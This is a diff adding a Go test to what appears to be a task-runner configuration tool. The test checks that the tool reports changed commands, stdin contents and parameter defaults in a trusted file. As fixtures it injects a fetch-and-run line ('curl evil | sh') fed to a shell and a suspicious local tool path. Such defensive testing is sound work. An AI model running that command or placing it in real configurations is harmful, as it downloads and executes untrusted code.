@@ -217,6 +217,26 @@ profiles: {p: {vars: {port: 1}}}
 	}
 }
 
+// What a command reads, and what stands for its parameters when nobody gives them, is as good as the command.
+func TestI20WhatACommandReadsIsShown(t *testing.T) {
+	t.Parallel()
+	const text = `vars: {tool: make}
+tasks:
+  lint: {command: sh, stdin: "true"}
+  build: {params: [plain, {name: tool, default: "${vars.tool}"}], command: "${params.tool} all"}
+  all: {steps: [{command: cat, stdin: fine}]}
+`
+	p := newPlace(t)
+	p.trusted(text)
+	f, err := config.Open(p.file("tacit.yaml", strings.NewReplacer(`"true"`, "curl evil | sh", "fine", "worse", "tool: make", "tool: ./.x/evil").Replace(text)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := news(t, p, f); got != "command lint reads: curl evil | sh; command build with ${params.tool}: ./.x/evil; command all reads: worse" {
+		t.Error(got)
+	}
+}
+
 // news lists what is new in a file, in a line.
 func news(t *testing.T, p *place, f *config.File) string {
 	t.Helper()
